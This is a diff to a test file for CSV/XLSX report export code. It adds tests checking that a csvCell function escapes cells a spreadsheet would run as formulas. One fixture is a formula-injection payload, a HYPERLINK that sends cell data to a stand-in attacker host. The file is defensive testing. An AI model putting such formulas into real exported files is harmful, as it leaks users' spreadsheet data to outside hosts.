@@ -1,5 +1,5 @@
 import ExcelJS from 'exceljs';
-import { toCsv, toXlsx } from './tables.js';
+import { csvCell, toCsv, toXlsx } from './tables.js';
 
 const sheets = [
   {
@@ -30,5 +30,22 @@ describe('report tables', () => {
     const ws = book.getWorksheet('예산')!;
     expect(ws.getRow(1).values).toEqual([undefined, '항목', '금액(원)']);
     expect(ws.getRow(2).getCell(2).value).toBe(250_000_000);
+  });
+});
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  it('get a leading apostrophe: = + - @, tab and carriage return', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?d="&B3,"상세보기")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?d=""&B3,""상세보기"")"`,
+    );
+    for (const lead of ['+', '-', '@', '\t'])
+      expect(csvCell(`${lead}SUM(A1:A9)`)).toBe(`'${lead}SUM(A1:A9)`);
+    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
+  });
+
+  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
+    expect(csvCell(-1200)).toBe('-1200');
+    expect(csvCell(3_000_000n)).toBe('3000000');
+    expect(csvCell('용해탱크 데이터')).toBe('용해탱크 데이터');
   });
 });
